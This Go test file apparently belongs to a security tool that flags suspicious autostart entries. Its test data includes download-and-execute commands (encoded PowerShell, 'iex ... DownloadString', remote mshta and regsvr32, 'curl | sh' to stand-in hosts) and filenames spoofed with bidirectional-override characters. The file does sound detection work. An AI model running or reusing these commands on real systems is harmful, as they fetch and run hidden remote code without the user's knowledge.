package identify

import (
	"testing"

	"github.com/stretchr/testify/require"

	"lockback/core/autostart"
	"lockback/core/location"
	"lockback/core/machine"
	"lockback/core/machine/account"
)

func TestCommandsThatHide(t *testing.T) {
	for _, command := range []string{
		"powershell -enc SQBuAHYAbwBrAGUA", "powershell.exe -NoProfile -EncodedCommand SQBu", "pwsh /ec SQBu",
		"powershell -e SQBu", "powershell -w hidden -File C:\\a.ps1", "powershell -WindowStyle Hidden a",
		"powershell iex((New-Object Net.WebClient).DownloadString('http://a'))", "mshta http://a.example/x.hta",
		"mshta javascript:x", "regsvr32 /s /u /i:http://a scrobj.dll",
		"sh -c 'curl -s a.example | sh'", "bash -c \"wget -qO- a.example|sudo bash\"",
		"sh -c 'echo aaaa | base64 -d | sh'", "curl a.example | python3 -",
	} {
		require.True(t, hides(command), command)
	}
	for _, command := range []string{
		"powershell -File C:\\tide.ps1", "powershell -ExecutionPolicy Bypass -File a.ps1",
		"powershell -Version 2 -WindowStyle Normal a", "mshta C:\\tide.hta", "sh -c 'curl -o /tmp/a a.example'",
		"sh -c 'ls | sort'", "sh -c 'base64 /a | mail root'", "/opt/tide -e -enc", "curl a.example | tee /a",
		"/usr/bin/tide --hidden", "",
	} {
		require.False(t, hides(command), command)
	}
	for _, name := range []string{"exe\u202egnp.scr", "Fog\u200bbell", "\x1b[31m", "a\u2067b"} {
		require.True(t, deceiving(name), name)
	}
	for _, name := range []string{"Größe 灯台", "a\tb", ""} {
		require.False(t, deceiving(name), name)
	}
}

func TestOddPlaces(t *testing.T) {
	users := []account.User{{Name: "ines", UID: 1000, Home: "/home/ines"}, {Name: "odile", Home: `C:\Users\odile`},
		{Name: "root", Home: "/root"}}
	for _, row := range []struct {
		os, file, user string
		odd            bool
	}{
		{"linux", "/tmp/a", "", true}, {"linux", "/var/tmp/x/a", "", true},
		{"linux", "/home/ines/.local/share/Trash/files/a", "ines", true}, {"linux", "/home/ines/bin/a", "ines", false},
		{"linux", "/home/ines/bin/a", "", true}, {"linux", "/home/ines/bin/a", "bram", true}, {"linux", "/home/ines2/a",
			"", false}, {"linux", "/root/a", "", false}, {"linux", "/opt/tmp/a", "", false},
		{"linux", "/opt/bill.pdf.exe", "", false},
		{"windows", `C:\Windows\Temp\a.exe`, "", true}, {"windows", `C:\Users\odile\AppData\Local\Temp\a.exe`, "odile",
			true}, {"windows", `C:\Users\odile\AppData\Local\a.exe`, "odile", false},
		{"windows", `C:\Users\odile\a.exe`, "", true}, {"windows", `D:\$Recycle.Bin\S-1\a.exe`, "", true},
		{"windows", `\\server\share\a.exe`, "", true}, {"windows", `C:\a.txt:b.exe`, "", true},
		{"windows", `C:\Tide\bill.pdf.exe`, "", true}, {"windows", `C:\Tide\bill     .scr`, "", true},
		{"windows", `C:\Tide\tide.exe`, "", false}, {"windows", "", "", false},
		{"macos", "/private/tmp/a", "", true}, {"macos", "/Applications/Tide.app/Contents/MacOS/Tide", "", false},
	} {
		m := (&machine.Machine{OS: row.os, Users: users}).Reader(nil)
		item := &location.Item{Entry: autostart.Entry{User: row.user, Target: autostart.Target{Path: row.file}}}
		require.Equal(t, row.odd, oddPlace(m, item), "%v", row)
	}
}
